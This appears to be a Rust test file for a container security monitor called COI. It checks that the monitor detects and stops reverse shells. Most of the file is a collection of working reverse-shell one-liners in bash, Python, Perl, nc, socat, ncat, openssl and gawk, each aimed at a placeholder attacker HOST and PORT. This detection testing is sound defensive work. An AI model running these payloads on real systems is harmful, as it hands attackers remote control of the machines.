//! Reverse shells: each gives the attacker a shell where nobody watches, and ends with the container gone where COI
//! does.

#![expect(clippy::unwrap_used, reason = "what fails here is a test")]

use coi_tests::incus::{self, Foreign, exec};
use coi_tests::{Attacker, Coi, DEFAULT, Shared, TINY, Viewer, end};

/// A container that nobody watches.
static UNWATCHED: Shared<Foreign> = Shared::new();

fn unwatched() -> Foreign {
    let container = Foreign::make(DEFAULT);
    container.start();
    // systemd empties /tmp while it boots, and before that it cannot be asked for anything.
    let booted = "until systemctl start sysinit.target 2>/dev/null; do :; done; \
                  /lib/systemd/systemd-networkd-wait-online --any --timeout=60";
    end(&mut incus::incus(&["exec", &container.name, "--", "sh", "-c", booted])).expect(0);
    container
}

/// Proves a payload, in which `HOST` and `PORT` stand for the attacker's.
fn prove(payload: &str, rule: &str) {
    prove_with(Attacker::on_bridge, payload, rule);
}

fn prove_with(attacker: impl Fn() -> Attacker, payload: &str, rule: &str) {
    let coi = Coi::new();
    let line = |attacker: &Attacker| attacker.fill(&format!("cd \"$(mktemp -d)\" && {payload}"));

    let unwatched = UNWATCHED.get(unwatched);
    let waiting = attacker();
    let mut shell = exec(&unwatched.name, "/tmp", &["bash", "-c", &line(&waiting)]).spawn().unwrap();
    waiting.await_shell();
    shell.kill().unwrap();
    shell.wait().unwrap();

    let waiting = attacker();
    let ended = coi.run(DEFAULT, &["bash", "-c", &line(&waiting)]);
    coi.assert_killed(ended, rule);
}

#[test]
fn bash_dev_tcp() {
    prove("bash -i >& /dev/tcp/HOST/PORT 0>&1", "reverse-shell-socket");
}

#[test]
fn bash_on_a_descriptor_of_its_own() {
    prove("exec 5<>/dev/tcp/HOST/PORT; sh <&5 >&5 2>&5", "reverse-shell-socket");
}

#[test]
fn python_dup2() {
    let script = "import os,socket,subprocess;s=socket.socket();s.connect((\"HOST\",PORT));\
                  [os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])";
    prove(&format!("python3 -c '{script}'"), "reverse-shell-socket");
}

#[test]
fn python_pty_spawn() {
    let script = "import os,pty,socket;s=socket.socket();s.connect((\"HOST\",PORT));\
                  [os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn(\"/bin/bash\")";
    prove(&format!("python3 -c '{script}'"), "reverse-shell-ancestor");
}

#[test]
fn perl() {
    let script = "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\
                  connect(S,sockaddr_in(PORT,inet_aton(\"HOST\"))) or die;\
                  open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");";
    prove(&format!("perl -e '{script}'"), "reverse-shell-socket");
}

#[test]
fn nc_and_mkfifo() {
    prove("rm -f f; mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT >f", "reverse-shell-pipes");
}

#[test]
fn nc_and_mkfifo_the_other_way_round() {
    prove("mkfifo f; nc HOST PORT <f | sh >f 2>&1", "reverse-shell-pipes");
}

/// The connection is there long before the pipes lead to it.
#[test]
fn nc_and_a_fifo_opened_late() {
    prove(
        "mkfifo f; (until ss -Htn state established dport = :PORT | grep -q .; do :; done; cat f) | sh -i 2>&1 | nc HOST PORT 1<>f",
        "reverse-shell-pipes",
    );
}

#[test]
fn socat_exec_with_a_pty() {
    prove("socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane TCP:HOST:PORT", "reverse-shell-relay");
}

#[test]
fn socat_exec() {
    prove("socat TCP:HOST:PORT EXEC:/bin/sh", "reverse-shell-relay");
}

#[test]
fn ncat_exec() {
    prove("ncat HOST PORT -e /bin/sh", "reverse-shell-relay");
}

#[test]
fn nc_traditional_exec() {
    prove("nc.traditional -e /bin/sh HOST PORT", "reverse-shell-socket");
}

#[test]
fn openssl_and_mkfifo() {
    let payload = "mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect HOST:PORT >f";
    prove_with(Attacker::with_tls, payload, "reverse-shell-pipes");
}

#[test]
fn gawk_inet() {
    let script = "BEGIN { s = \"/inet/tcp/0/HOST/PORT\"; while ((s |& getline c) > 0) { \
                  while ((c |& getline line) > 0) print line |& s; close(c) } }";
    prove(&format!("gawk '{script}'"), "reverse-shell-relay");
}

#[test]
fn only_observed() {
    let coi = Coi::new();
    let container = Foreign::make(TINY);
    let name = container.name.as_str();
    container.start();
    let viewer = Viewer::attach(&coi, name);
    let attacker = Attacker::on_bridge();
    let payload = "until ip route | grep -q default; do usleep 10000; done; nc HOST PORT -e sh";
    let mut shell = exec(name, "/", &["sh", "-c", &attacker.fill(payload)]).spawn().unwrap();
    let seen = viewer.until("the alert", |event| event["rule"]["id"] == "reverse-shell-socket");
    let action = &seen.last().unwrap()["coi"]["action"];
    assert_eq!((&action["name"], &action["result"]), (&"log".into(), &"success".into()));
    attacker.await_shell();
    assert_eq!(incus::status(name), "Running");
    viewer.leave().expect(0);
    shell.kill().unwrap();
    shell.wait().unwrap();
}
